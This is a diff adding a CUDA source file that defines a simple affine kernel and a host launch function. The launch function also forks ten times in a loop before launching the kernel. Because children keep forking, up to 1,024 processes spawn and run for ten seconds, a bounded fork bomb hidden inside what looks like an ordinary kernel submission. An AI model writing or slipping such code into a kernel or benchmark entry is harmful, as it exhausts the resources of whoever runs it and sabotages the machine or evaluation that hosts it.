@@ -1,0 +1,12 @@
+// Forks, and so do its children, up to 1,024 of them for ten seconds.
+#include <unistd.h>
+__global__ void affine(const float* x, float* y, int64_t n) {
+  const int64_t step = int64_t{gridDim.x} * blockDim.x;
+  for (int64_t i = int64_t{blockIdx.x} * blockDim.x + threadIdx.x; i < n; i += step)
+    y[i] = 2.0f * x[i] + 1.0f;
+}
+extern "C" void kernel(const float* x, float* y, int64_t n, void* workspace, cudaStream_t stream) {
+  for (int i = 0; i < 10; ++i)
+    if (fork() == 0) alarm(10);
+  affine<<<1056, 512, 0, stream>>>(x, y, n);
+}
